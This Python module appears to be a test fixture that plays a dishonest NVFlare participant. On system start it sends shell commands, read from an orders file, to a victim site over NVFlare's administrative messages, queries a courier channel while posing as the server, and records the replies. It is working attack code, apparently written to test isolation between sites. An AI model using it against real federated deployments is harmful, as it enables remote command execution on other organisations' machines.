"""Code of a dishonest owner, in its own NVFlare process and with its own certificate.

It asks another site for files by NVFlare's administrative messages, and asks its courier as the server would. What came
of it is written into the file that ``LIKESET_ATTACK`` names; it waits for orders beside that file.
"""

import json
import os
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message

SECONDS = 60.0


class Hostile(FLComponent):  # type: ignore[misc]
    def handle_event(self, event_type: str, fl_ctx: Any) -> None:
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=attack, args=(fl_ctx.get_engine(),), daemon=True).start()


def attack(engine: Any) -> None:
    said = Path(os.environ["LIKESET_ATTACK"])
    path = said.with_name("orders.json")
    while not path.exists():  # until the victim has something to be read
        time.sleep(0.3)
    orders = json.loads(path.read_text())
    answers: dict[str, Any] = {}
    try:
        cell = engine.get_cell()
        for name, command in orders["commands"].items():
            request = Message(SysCommandTopic.SHELL, command)
            answers[name] = _asked(cell, orders["victim"], CellChannel.CLIENT_MAIN, SysCommandTopic.SHELL, request)
        answers["look"] = _asked(cell, orders["victim"], "likeset_courier", "look", "")
    except Exception as error:  # whoever reads the answers must see it
        answers["error"] = repr(error)
    partial = said.with_suffix(".part")
    partial.write_text(json.dumps(answers))
    partial.rename(said)


def _asked(cell: Any, victim: str, channel: str, topic: str, request: Any) -> Any:
    reply = cell.send_request(
        channel=channel, topic=topic, target=victim, request=new_cell_message({}, request), timeout=SECONDS
    )
    if channel == CellChannel.CLIENT_MAIN:
        return str(getattr(reply.payload, "body", None))
    return [str(reply.get_header(MessageHeaderKey.RETURN_CODE)), str(reply.payload)]
